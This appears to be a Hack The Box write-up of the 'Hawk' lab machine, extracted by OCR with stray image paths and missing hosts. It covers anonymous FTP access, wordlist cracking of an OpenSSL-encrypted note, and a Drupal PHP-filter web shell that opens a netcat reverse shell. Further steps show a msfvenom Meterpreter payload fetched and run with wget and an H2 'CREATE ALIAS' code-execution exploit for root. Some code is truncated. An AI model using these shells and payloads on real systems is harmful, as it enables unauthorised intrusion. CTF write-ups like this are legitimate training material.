Snow Den

Hack The Box - Hawk

Published December 1, 2018

Box Info

Box profile: Hawk
OS: Linux
Maker: mrh4sh
Release date: July 14, 2018
Retire date: December 1, 2018
Own date: November 20, 2018


These writeups should be taken as insight into the processes and techniques involved rather than a walkthrough tocompleting the boxes in question. You should never execute code without first understanding what it does, and always do outside research in order to figure out why you're taking the steps you are. This is for your safety, and also ensures that you have an understanding of the fundamentals involved with the ability to reproduce things in new and different scenarios. As such, while these guides outline fairly precise steps to take, some of the more basic information may be omitted for brevity.

If you do not understand what is going on, read the manual until you do.


Hawk was an enjoyable box that chained severalfairly simple techniques. There were a few strange snags along the way, but they were barely more than inconveniences so they didn't affect the box all too much.

Initial Enumeration

Our initial port scan presents us with an FTP service and two web services.

att$ nmap -sV -T4
21/tcp   open  ftp     vsftpd 3.0.3
22/tcp   open  ssh     OpenSSH 7.6p1 Ubuntu 4 (Ubuntu Linux; protocol 2.0)
80/tcp   open  http    Apache httpd 2.4.29 ((Ubuntu))
8082/tcp open  http    H2 database http console

Visiting the web services, the one on port 8082 is for an "H2 Console". This software is a Java-based web app used for managing databases. Unfortunately, it seems to only allow local connections to it, so we're out of luck with that for the time being. The web service on port 80, on the other hand, is an unfinished Drupal website. It has a robots.txt file for us to read, but most of the files and directories that it lists are inaccessible. It does, however, allow us to read CHANGELOG.txt which tells us that the Drupal version is 7.58, but that is a sufficiently patched version so I could find no public exploits for it.

Before we try any scans, let's check out the other service, FTP, since it might be configured to allow anonymous sessions.

att$ ftp
Name: anonymousFile Encryption Cracking

FTP does in fact allow anonymous connections, and even better, we have a file that we can download and play with.

ftp> ls -a messages
drwxr-xr-x    2 ftp      ftp          4096 Jun 16 22:21 .
drwxr-xr-x    3 ftp      ftp          4096 Jun 16 22:14 ..
-rw-r--r--    1 ftp      ftp           240 Jun 16 22:21 .drupal.txt.enc
ftp> get messages/.drupal.txt.encatt$ file .drupal.txt.enc
.drupal.txt.enc: openssl enc'd data with salted password, base64 encoded

Let's see if we can crack this encryption. A quick search for a tool online brings me to glv2's bruteforce-salted-openssl repository on GitHub. Let's grab it and take a crack at it using rockyou as our word list. After a few failed attempts we determine that the cipher being used is AES-256-CBC, while the digest is SHA256.

att$ mv .drupal.txt.enc drupal.txt.b64
att$ base64 -d drupal.txt.b64 > drupal.txt.enc
att$ ./bruteforce-salted-openssl -c aes-256-cbc -d sha256 -f rockyou.txt -t 8 ../drupal.txt.enc

Pretty much immediately we get a password back, denoted by the phrase "Password candidate". Let's feed it into OpenSSL to confirm it.

att$ openssl aes-256-cbc -d -in ../drupal.txt.enc -out ../drupal.txt

It decrypts it successfully! It appears to be a note from an IT department with a password to use for the Drupal website's portal, which works with the username "admin".

Once we're logged in, we can add and edit content, themes, and modules within the site. If we head to the "Modules" page, we can enable Drupal's "PHP filter" module which will allow us to add executable PHP code into pages. After enabling it, we'll go to "Content" to add a new page that executes a basic reverse shell back to us, making sure to select "PHP code" for the text format.

  if (isset($_GET['ohno']))
    system('rm -f /tmp/sh; mkfifo /tmp/sh; cat /tmp/sh | /bin/bash -i 2>&1 |nc 5555 > /tmp/sh');

We'll then start up Netcat on our end and use cURL to send out a request to the page we just made.

att$ (sleep 1 && curl 2>/dev/null) & nc -lp 5555

Server Enumeration

Now that we're in, let's start exploring.

haw$ id
uid=33(www-data) gid=33(www-data) groups=33(www-data)
haw$ uname -a
Linux hawk 4.15.0-23-generic #25-Ubuntu SMP Wed May 23 18:02:16 UTC 2018 x86_64 x86_64 x86_64 GNU/Linux
haw$ ls /home
haw$ cat /etc/passwd
haw$ ps aux
root    /bin/sh -c /usr/bin/java -jar /opt/h2/bin/h2-1.4.196.jarIt's interesting that the user daniel has python3 as their login shell. If we were to log in as him, however, we shouldn't have much issue executing commands even within there. We also see that a Java executable by the name of H2 is running under root. This is the same name as the website we tried accessing earlier on port 8082. Now that we're inside, as long as the requests are coming from inside of the box we will no longer get an access error. In order to use the H2 site, however, we'll need to open it in our web browser, so simply using cURL to access it won't quite cut it.We're going to need use the access that we currently have to make it seem like we're connecting from the inside. In order to achieve this easily, we can just upgrade ourselves to a Meterpreter session and use the portfwd command to point it where we want to go. Let's open up a new terminal window and set things up.

att$ msfvenom -plinux/x64/meterpreter_reverse_tcp LPORT=34543 LHOST= -f elf > ohno
att$ python -m SimpleHTTPServer 5656 &
att$ msfdb run
msf> use exploit/multi/handler
msf> set payload linux/x64/meterpreter_reverse_tcp
msf> set lhost tun0
msf> set lport 34543
msf> show options
msf> run

Then, back in theother window, we'll download and execute the payload on our target. Once we're in, we can go ahead and use the portfwd command to redirect our localhost's port 8082 to the remote localhost's port 8082.

haw$ cd /var/tmp && wget && chmod +x ohno && ./ohno &
met> portfwd add -l 8082 -p 8082 -r localhost

We can now go to the page in our browser using localhost on port 8082 instead of the remote IP address.

H2 ConsoleArbitrary Code Execution

If we do an exploit search for this software, we actually get some results back for it.In particular, there seems to be arbitrary code execution available to us, and since the app is running as root, we should get full system access from doing so.

att$ searchsploit h2 database
H2 Database - 'Alias' Arbitrary Code
H2 Database 1.4.197 - Information Disclosure

Since we don't currently know the username or password to the database located at ~/test, we can't connect to it. However, what happens if we try to use a database file that doesn't exist yet? If we type in a new database name and click the "Test Connection" button, we can see that this does in fact work.

Testing H2 with New Database

Now we can connect to a new database and use that for the exploit after setting up another Meterpreter handler.

met> background
msf> run

The exploit uses Java inside of an alias in SQL in order to execute code, which we'll be using to run shell commands to download and execute a payload. Through some trial and error, it's been determined that this server doesn't seem to have access to the same file system as what our current shell has. As such, it's necessary to download our payload to it a second time before trying to execute it again. We'll put this exploit into the text field in the H2 console and when we click "Run", we should have a new, elevated Meterpreter session waiting for us in our terminal.

CREATE ALIAS OHNO AS $$ void ohno() throws, InterruptedException {
  Runtime r = Runtime.getRuntime();
  r.exec("wget -O/var/tmp/ohno").waitFor();
  r.exec("chmod +x /var/tmp/ohno").waitFor();
met> shell
haw$ id
uid=0(root) gid=0(root) groups=0(root)


We found an FTP server with anonymous logins enabled. This FTP server contained an encrypted file, which we were able to decrypt by running it through a wordlist. The file contained a password that we could use to log into a Drupal website, and by adding PHP code to it we were able to get a shell. We then used this shell to pivot to a restricted H2 Database web app, and exploited a vulnerability in it that gave us root access.

The privesc for this box felt like I was cheating a little due to it being a public exploit, but understanding what it did and modifying it to my own version made it much more interesting. What was kind of peculiar at the end was the fact that even though it appeared to be the same system, the H2 web app seemed to actually be running on a mirrored version of the server with its own file system. I assume that this is because of the other exploit that came up in the search, which allows an attacker to gain a copy of a file by using a symlink, and they didn't want people cutting through a corner like that. Funnily enough, that exploit was actually discovered byanother user on HTB by the nameof owodelta, so big propsto them!


H2 Database - 'Alias'Arbitrary Code Execution